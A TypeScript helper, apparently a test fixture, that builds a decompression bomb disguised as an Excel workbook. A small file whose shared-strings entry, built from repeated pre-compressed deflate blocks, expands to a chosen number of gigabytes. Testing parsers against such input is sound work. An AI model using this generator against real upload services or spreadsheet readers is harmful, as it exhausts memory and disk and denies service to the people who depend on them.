import { constants, deflateRawSync } from 'node:zlib'
import { Zip, ZipDeflate, type ZipInputFile } from 'fflate'

const MAIN = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main'
const BLOCK = 'a'.repeat(16_000_000)

/** A workbook of some hundred kilobytes whose one text unpacks to `gigabytes`. */
export function zipBomb(gigabytes: number): Buffer {
  const parts: Uint8Array[] = []
  const zip = new Zip((error, part) => {
    if (error) throw error
    parts.push(part)
  })
  const add = (filename: string, text: string) => {
    const file = new ZipDeflate(filename)
    zip.add(file)
    file.push(Buffer.from(text), true)
  }
  add(
    '[Content_Types].xml',
    `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
  )
  add('xl/workbook.xml', `<workbook xmlns="${MAIN}"><sheets><sheet name="s" sheetId="1"/></sheets></workbook>`)
  // A block that was flushed stands for itself, so that it can be repeated without being packed again.
  const open = deflateRawSync(`<sst xmlns="${MAIN}"><si><t>`, { finishFlush: constants.Z_FULL_FLUSH })
  const block = deflateRawSync(BLOCK, { finishFlush: constants.Z_FULL_FLUSH })
  const times = Math.ceil((gigabytes * 1e9) / BLOCK.length)
  const packed = Buffer.concat([open, ...new Array<Buffer>(times).fill(block), deflateRawSync('</t></si></sst>')])
  const texts: ZipInputFile = {
    filename: 'xl/sharedStrings.xml',
    compression: 8,
    crc: 0,
    size: Math.min(times * BLOCK.length, 2 ** 31),
  } as ZipInputFile
  zip.add(texts)
  texts.ondata?.(null, packed, true)
  zip.end()
  return Buffer.concat(parts)
}
